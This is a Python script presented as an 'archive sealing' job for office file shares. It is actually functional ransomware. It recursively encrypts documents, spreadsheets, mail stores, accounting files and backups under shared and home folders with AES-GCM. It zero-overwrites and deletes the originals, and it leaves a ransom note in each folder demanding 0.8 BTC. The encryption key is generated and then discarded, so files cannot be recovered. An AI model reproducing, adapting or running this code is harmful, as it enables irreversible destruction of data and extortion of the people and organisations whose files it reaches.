#!/usr/bin/env python3
"""'Archive sealing' job for the office file shares.

Walks the shared folders and the user's home, seals every document with
AES-GCM, and drops the plain copies.  A notice explains how to obtain the
unsealing key.
"""
import argparse
import logging
import os
import queue
import secrets
import sys
import threading
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

DEFAULT_ROOTS = ["/srv/shares", "/mnt/office", str(Path.home())]
TARGET_EXT = {".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png", ".pst",
              ".qbw", ".odt", ".ods", ".txt", ".sqlite", ".bak"}
SKIP_DIRS = {".cache", ".git", "node_modules", "__pycache__", ".local"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_UNSEAL_FILES.txt"
NOTICE = """All documents in this folder were sealed.
To obtain the unsealing key send 0.8 BTC to bc1q7f0v3k9x2m4n8r6t5y1u0p3l and
mail your ID {victim_id} to restore-desk@proton.example.
"""

log = logging.getLogger("sealer")


class Sealer:
    def __init__(self, key, victim_id, workers=4):
        self.aead = AESGCM(key)
        self.victim_id = victim_id
        self.jobs = queue.Queue(maxsize=512)
        self.done = 0
        self.lock = threading.Lock()
        self.threads = [threading.Thread(target=self._worker, daemon=True)
                        for _ in range(workers)]
        self.noted_dirs = set()

    def start(self):
        for t in self.threads:
            t.start()

    def _seal_one(self, path):
        nonce = secrets.token_bytes(12)
        with open(path, "rb") as fh:
            plain = fh.read()
        blob = nonce + self.aead.encrypt(nonce, plain, None)
        with open(path + SEALED_SUFFIX, "wb") as out:
            out.write(blob)
        # overwrite then remove the original
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(plain))
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)

    def _worker(self):
        while True:
            path = self.jobs.get()
            if path is None:
                self.jobs.task_done()
                return
            try:
                self._seal_one(path)
                with self.lock:
                    self.done += 1
            except (OSError, ValueError) as exc:
                log.debug("skip %s: %s", path, exc)
            finally:
                self.jobs.task_done()

    def drop_notice(self, directory):
        if directory in self.noted_dirs:
            return
        self.noted_dirs.add(directory)
        try:
            with open(os.path.join(directory, NOTICE_NAME), "w") as fh:
                fh.write(NOTICE.format(victim_id=self.victim_id))
        except OSError:
            pass

    def feed(self, roots):
        for root in roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                hit = False
                for name in filenames:
                    if name.endswith(SEALED_SUFFIX) or name == NOTICE_NAME:
                        continue
                    if os.path.splitext(name)[1].lower() in TARGET_EXT:
                        self.jobs.put(os.path.join(dirpath, name))
                        hit = True
                if hit:
                    self.drop_notice(dirpath)

    def finish(self):
        for _ in self.threads:
            self.jobs.put(None)
        self.jobs.join()


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 4)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = AESGCM.generate_key(bit_length=256)
    victim_id = secrets.token_hex(8)
    sealer = Sealer(key, victim_id, workers=args.workers)
    sealer.start()
    sealer.feed([r for r in args.roots if os.path.isdir(r)])
    sealer.finish()
    del key
    log.info("sealed %d files, id %s", sealer.done, victim_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
